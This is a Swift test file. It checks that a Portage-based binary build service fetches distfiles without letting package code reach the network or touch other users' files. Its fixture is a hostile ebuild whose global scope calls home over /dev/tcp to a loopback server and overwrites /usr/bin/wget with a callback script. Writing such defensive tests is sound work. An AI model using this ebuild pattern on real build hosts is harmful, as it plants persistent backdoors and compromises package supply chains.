import Posix
import Synchronization
import Testbed
import Testing

/// Distfiles are fetched without running anything of the package that they belong to.
@Suite struct BuildFetchTests {
    /// What was asked of a server.
    private final class Journal: Sendable {
        private let lines = Mutex<[String]>([])
        var all: [String] { lines.withLock { $0 } }
        func add(_ line: String) { lines.withLock { $0.append(line) } }
    }

    /// The code outside of all functions is run whenever Portage wants to know something of the ebuild. In the service,
    /// it calls home, and leaves a program in place of those that fetch.
    private static func hostile(_ url: String, restrict: String = "") -> String {
        let place = url.dropFirst("http://".utf8.count).replacing(":", with: "/")
        return #"""
            EAPI=8
            DESCRIPTION="Calls home"
            SRC_URI="\#(url)/evil-1.tar"
            SLOT="0"
            KEYWORDS="amd64 arm64"
            RESTRICT="\#(restrict)"
            S=${WORKDIR}

            evil_call() {
                { exec 7<> "/dev/tcp/\#(place)" && printf 'GET /called-from-%s HTTP/1.0\r\n\r\n' "$1" >&7; } 2> /dev/null
            }
            if [[ -d /cfg ]]; then
                (evil_call "${EBUILD_PHASE:-scope}")
                [[ ! -w /usr/bin/wget ]] || {
                    printf '#!/bin/bash\nexec 7<> /dev/tcp/\#(place)\n' > /usr/bin/wget
                    printf 'printf "GET /left-behind HTTP/1.0\r\n\r\n" >&7\n' >> /usr/bin/wget
                    : > "${EPREFIX}/was-here"
                }
            fi

            src_unpack() {
                evil_call unpack && die "the network"
                [[ -e ${EPREFIX}/was-here ]] && einfo "it did what it could"
                default
            }
            src_compile() { evil_call compile && die "the network"; :; }
            src_install() { insinto /usr/share/evil; doins evil.txt; }

            """#
    }

    /// An ebuild that both machines have. It looks for what was fetched for an ebuild that one of them sent.
    private static let curious = #"""
        EAPI=8
        DESCRIPTION="Looks for distfiles of others"
        SLOT="0"
        KEYWORDS="amd64 arm64"
        S=${WORKDIR}

        src_compile() {
            [[ -e ${EPREFIX}/var/cache/distfiles/common.txt ]] || die "no distfiles"
            local found
            found=$(find "${EPREFIX}/var" "${EPREFIX}/var/cache/distfiles" /distfiles -name '*evil-1*' 2> /dev/null)
            [[ -z ${found} ]] || die "the distfiles of others: ${found}"
        }
        src_install() { insinto /usr/share/curious; newins - file <<< done; }

        """#

    @Test func nothingOfAPackageRunsWithNetwork() async throws {
        let testbed = try await Testbed.shared()
        let journal = Journal()
        try await testbed.withMachine("fetch-service") { server in
            try await testbed.withMachine("fetch-desk") { desk in
                for machine in [server, desk] { try await machine.installPortmanteau(enable: false) }
                let packed = try await desk.run([
                    "bash", "-c",
                    "cd \"$0\" && echo content > evil.txt && tar -cf evil-1.tar evil.txt && sha512sum evil-1.tar",
                    desk.prefix,
                ])
                #expect(packed.succeeded, "\(packed.text)")
                let hash = packed.stdout.prefix(128)
                let archive = try Files.read(desk.path("evil-1.tar"))
                try await LoopbackServer.with({ request in
                    journal.add(request.target)
                    return .response(request.target == "/evil-1.tar" ? 200 : 404, body: archive)
                }) { web in
                    try server.append(
                        "etc/portage/make.conf",
                        """

                        DISTDIR="\(server.prefix)/var/cache/distfiles"
                        FETCHCOMMAND="/usr/bin/wget -q -O \\"\\${DISTDIR}/\\${FILE}\\" \\"\\${URI}\\""
                        RESUMECOMMAND="${FETCHCOMMAND}"
                        GENTOO_MIRRORS=""

                        """)
                    try desk.addOwnRepository(categories: ["app-evil"])
                    for (name, restrict) in [("evil", ""), ("closed", "fetch")] {
                        try desk.write(
                            "repo/app-evil/\(name)/\(name)-1.ebuild",
                            Self.hostile(web.url, restrict: restrict)
                                .replacing(
                                    "/evil-1.tar", with: "/evil-1.tar" + (restrict.isEmpty ? "" : " -> closed.tar")))
                        try desk.write(
                            "repo/app-evil/\(name)/Manifest",
                            "DIST \(restrict.isEmpty ? "evil-1" : "closed").tar \(archive.count) "
                                + "SHA512 \(hash)\n")
                    }
                    // A name that only the service's machine knows, and one that everybody does.
                    let inner = Self.hostile(web.url).replacing(
                        "SRC_URI=\"http://127.0.0.1", with: "SRC_URI=\"http://localhost")
                    try desk.write(
                        "repo/app-evil/inner/inner-1.ebuild",
                        inner.replacing("/evil-1.tar", with: "/evil-1.tar -> inner.tar"))
                    try desk.write(
                        "repo/app-evil/inner/Manifest", "DIST inner.tar \(archive.count) SHA512 \(hash)\n")
                    try server.addOwnRepository(categories: ["app-evil"])
                    for machine in [server, desk] {
                        try machine.write("repo/app-evil/curious/curious-1.ebuild", Self.curious)
                    }
                    try server.write("var/cache/distfiles/common.txt", "for everybody\n")
                    let service = try await server.startService(settings: "private_hosts = [\"127.0.0.1\"]")
                    do {
                        let client = ServiceClient(machine: desk, url: service.url)
                        let reply = try await client.ask("app-evil/evil-1")
                        let log = try server.read(
                            "var/lib/portmanteau/binpkgd/logs/\(reply.value("id") ?? "").log")
                        #expect(reply.value("state") == "ready", "\(reply.text)\(log)")
                        // It was run, and tried; and what was fetched was fetched by Portage alone.
                        #expect(log.contains("it did what it could"), "\(log)")
                        #expect(journal.all == ["/evil-1.tar"], "\(log)")
                        // It is there for those who trust each other, and for nobody else.
                        let own = "var/lib/portmanteau/binpkgd/own-distfiles/default/evil-1.tar"
                        #expect(Files.exists(server.path(own)))
                        #expect(!Files.exists(server.path("var/cache/distfiles/evil-1.tar")))
                        let curious = try await client.ask("app-evil/curious-1")
                        #expect(curious.value("state") == "ready", "\(curious.text)")
                        #expect(!curious.text.contains("sent "), "\(curious.text)")
                        #expect(!Files.exists(server.path("was-here")))
                        // What only its user may fetch is not fetched, and that is said.
                        let closed = try await client.ask("app-evil/closed-1")
                        #expect(closed.value("state") == "declined", "\(closed.text)")
                        #expect(
                            closed.value("message")?.contains(
                                "(RESTRICT=fetch): the service's administrator has to put")
                                == true, "\(closed.text)")
                        let inner = try await client.ask("app-evil/inner-1")
                        #expect(inner.value("state") == "declined", "\(inner.text)")
                        #expect(
                            inner.value("message")?.contains("its host is a name of a local network") == true,
                            "\(inner.text)")
                        #expect(journal.all == ["/evil-1.tar"])
                    } catch {
                        try await service.stop()
                        throw error
                    }
                    #expect(try await service.stop() == 0, "\(service.process.log)")
                }
            }
        }
    }
}
